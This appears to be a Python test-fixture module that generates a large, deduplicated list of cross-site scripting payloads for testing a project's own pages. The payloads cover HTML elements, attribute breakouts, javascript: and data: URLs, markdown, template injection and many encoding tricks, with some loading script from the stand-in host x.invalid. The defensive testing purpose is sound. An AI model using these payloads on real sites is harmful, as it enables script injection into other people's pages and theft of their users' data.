"""Texts that want to become script (T08): vectors in the contexts and encodings in which pages show text.

Written for Banso's own pages. Each calls `hit(1)`, which a page under test counts, or fetches from
x.invalid, which never may.
"""

from collections.abc import Iterator
from html import escape
from itertools import chain, product
from urllib.parse import quote

ELEMENTS = [
    "<script>hit(1)</script>", "<sCrIpT>hit(1)</ScRiPt>", "<script src=//x.invalid/a.js></script>",
    "<script>hit(1)//", "<img src=x onerror=hit(1)>", "<img/src=x/onerror=hit(1)//", "<image src=x onerror=hit(1)>",
    "<svg onload=hit(1)>", "<svg/onload=hit(1)>", "<svg><script>hit(1)</script></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:hit(1)><text>a",
    "<svg><use href=//x.invalid/a.svg#b>", "<svg><foreignObject><iframe srcdoc='<script>hit(1)</script>'>",
    "<math><a xlink:href=javascript:hit(1)>a", "<body onload=hit(1)>", "<details open ontoggle=hit(1)>",
    "<iframe src=javascript:hit(1)>", "<iframe srcdoc='<img src=x onerror=hit(1)>'>",
    "<object data=javascript:hit(1)>", "<object data=//x.invalid/a>", "<embed src=javascript:hit(1)>",
    "<video><source onerror=hit(1)>", "<video src=x onerror=hit(1)>", "<audio src=x onerror=hit(1)>",
    "<input autofocus onfocus=hit(1)>", "<select autofocus onfocus=hit(1)>", "<p tabindex=1 autofocus onfocus=hit(1)>",
    "<xss autofocus tabindex=1 onfocus=hit(1)>", "<marquee onstart=hit(1)>", "<dialog open onclose=hit(1)>",
    "<a href=javascript:hit(1)>a</a>", "<a href='data:text/html,<script>hit(1)</script>'>a</a>",
    "<form action=javascript:hit(1)><button>a", "<button formaction=javascript:hit(1) form=f>a",
    "<input type=image formaction=javascript:hit(1)>", "<base href=//x.invalid/>", "<plaintext onmouseover=hit(1)>",
    "<meta http-equiv=refresh content='0;url=//x.invalid/'>", "<link rel=stylesheet href=//x.invalid/a.css>",
    "<style>@import'//x.invalid/a.css'</style>", "<p style=animation-name:x onanimationstart=hit(1)>",
    "<template><script>hit(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit(1)>'>",
    "<b hx-get=//x.invalid/ hx-trigger=load>", "<b hx-on::load=hit(1) hx-get=/ hx-trigger=load>",
    "<b hx-on:click=hit(1)>b", "<b data-hx-on-click=hit(1)>", "<b x-data x-init=hit(1)>", "<b hx-vals='js:{a:hit(1)}'>",
    "<b hx-trigger='load[hit(1)]' hx-get=/>", "<link rel=modulepreload href=//x.invalid/a.js>",
    "<b popover onbeforetoggle=hit(1)>", "<portal src=//x.invalid/>", "<frameset onload=hit(1)>",
]  # fmt: skip
BREAKOUTS = [
    '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</svg>",
    "</template>", "</noscript>", "*/", "`>", '\\">', "</a>", "\u2028",
]  # fmt: skip
ATTRIBUTES = [
    '" onmouseover=hit(1) x="', "' onmouseover=hit(1) x='", '" autofocus onfocus=hit(1) x="',
    "' autofocus onfocus=hit(1) x='", " onmouseover=hit(1) ", '" hx-on:mouseover=hit(1) "', "` onerror=hit(1) `",
    '" style=animation-name:x onanimationend=hit(1) "', '"onpointerenter=hit(1)//', "\x0conmouseover=hit(1)\x0c",
]  # fmt: skip
ADDRESSES = [
    "javascript:hit(1)", "JaVaScRiPt:hit(1)", "java\tscript:hit(1)", "java\nscript:hit(1)", "\x01javascript:hit(1)",
    " javascript:hit(1)", "&#106;avascript:hit(1)", "&#x6A&#x61vascript:hit(1)", "javascript&colon;hit(1)",
    "javascript://%0ahit(1)", "vbscript:hit(1)", "data:text/html,<script>hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "//x.invalid/", "\\\\x.invalid\\",
    "https:javascript:hit(1)", "javascript:hit(1)//https://example.com", "ｊavascript:hit(1)",
]  # fmt: skip
MARKDOWN = [
    "[a](javascript:hit(1))", "[a](JAVASCRIPT:hit(1))", "[a](java&#115;cript:hit(1))", "[a](data:text/html,<script>hit(1)</script>)",
    "[a](vbscript:hit(1))", '![a](x" onerror="hit(1))', "![a](javascript:hit(1))", "![a](//x.invalid/a.png)",
    "<javascript:hit(1)>", "[a]: javascript:hit(1)\n[a]", '[a](x "onclick=hit(1)")', "[a](<javascript:hit(1)>)",
    '[a](https://example.com" onclick="hit(1))', '```"><img src=x onerror=hit(1)>\nx\n```', "`<script>hit(1)</script>`",
    "<!-- --><script>hit(1)</script>", "[<img src=x onerror=hit(1)>](https://example.com)", "| <img src=x onerror=hit(1)> |\n|-|\n| <svg onload=hit(1)> |",
    "[a](&#x6A;avascript:hit(1))", "[a](\\javascript:hit(1))", "# <img src=x onerror=hit(1)>", "~~<svg onload=hit(1)>~~",
]  # fmt: skip
SCRIPTS = [
    "';hit(1);//", '";hit(1);//', "\\';hit(1);//", "`;hit(1);//", "${hit(1)}", "{{hit(1)}}", "{{7*7}}{{hit(1)}}",
    "{{constructor.constructor('hit(1)')()}}", "{% debug %}{{ hit(1) }}", "#{hit(1)}", "<%= hit(1) %>", "[[hit(1)]]",
    "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e", "\\x3cscript\\x3ehit(1)\\x3c/script\\x3e", "</script><script>hit(1)</script>",
    "<!--<script>hit(1)//", '"}]);hit(1);//', "url(javascript:hit(1))", "x:expression(hit(1))", "'-hit(1)-'", '"-hit(1)-"',
]  # fmt: skip
_SHORT = [
    "<script>hit(1)</script>", "<img src=x onerror=hit(1)>", "<svg onload=hit(1)>", "<a href=javascript:hit(1)>a",
    "<p tabindex=1 autofocus onfocus=hit(1)>", "<b hx-on:click=hit(1)>b",
]  # fmt: skip


def _full_width(text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


def _encoded() -> Iterator[str]:
    """What becomes markup where somebody decodes once too often, or brings a text to its plain form."""
    for text in [*_SHORT, '"><svg onload=hit(1)>', "'-hit(1)-'"]:
        yield escape(text)
        yield escape(escape(text))
        yield "".join(f"&#{ord(sign)};" for sign in text[:12]) + text[12:]
        yield "".join(f"&#x{ord(sign):x}" for sign in text[:12]) + text[12:]
        yield quote(text)
        yield quote(quote(text))
        yield _full_width(text)
        yield text.replace("<", "\u2039<").replace(">", "\ufe65")
        yield text.replace("<", "+ADw-").replace(">", "+AD4-")
        yield text.replace("<", "\\u003c").replace(">", "\\u003e")
        yield text.replace("<", "<\u200b").replace("s", "ſ", 1)
        yield "\ufeff" + text + "\u202e"


def payloads() -> list[str]:
    """Every one of them, each once."""
    broken = (before + text for before, text in product(BREAKOUTS, _SHORT))
    every = chain(ELEMENTS, ATTRIBUTES, ADDRESSES, MARKDOWN, SCRIPTS, _encoded(), broken)
    return list(dict.fromkeys(every))


class Texts:
    """Deals them out: as many as fit into a field, the next field goes on behind them."""

    def __init__(self) -> None:
        self.all = payloads()
        self._next = 0

    def line(self, limit: int) -> str:
        """At least one, and as many more as fit, in one line; one of them calls by its plain name."""
        for _ in range(len(self.all)):
            if "hit(" in (found := self._line(limit)):
                return found
        raise ValueError(f"nothing fits into {limit} signs")

    def _line(self, limit: int) -> str:
        text = ""
        for _ in range(len(self.all)):
            each = " ".join(self.all[self._next % len(self.all)].split())
            if text and len(text) + 1 + len(each) > limit:
                break
            text = f"{text} {each}".strip()
            self._next += 1
        return text[:limit]

    def name(self, limit: int) -> str:
        """The same for fields that refuse signs which nobody sees."""
        return "".join(sign for sign in self.line(limit) if sign.isprintable())

    def lines(self, limit: int) -> list[str]:
        """So many texts of at most `limit` signs that each payload is in one of them."""
        found, before = [], self._next
        while self._next - before < len(self.all):
            found.append(self.line(limit))
        return found

    def prose(self) -> str:
        """All of them, each in a paragraph of its own."""
        return "\n\n".join(self.all)
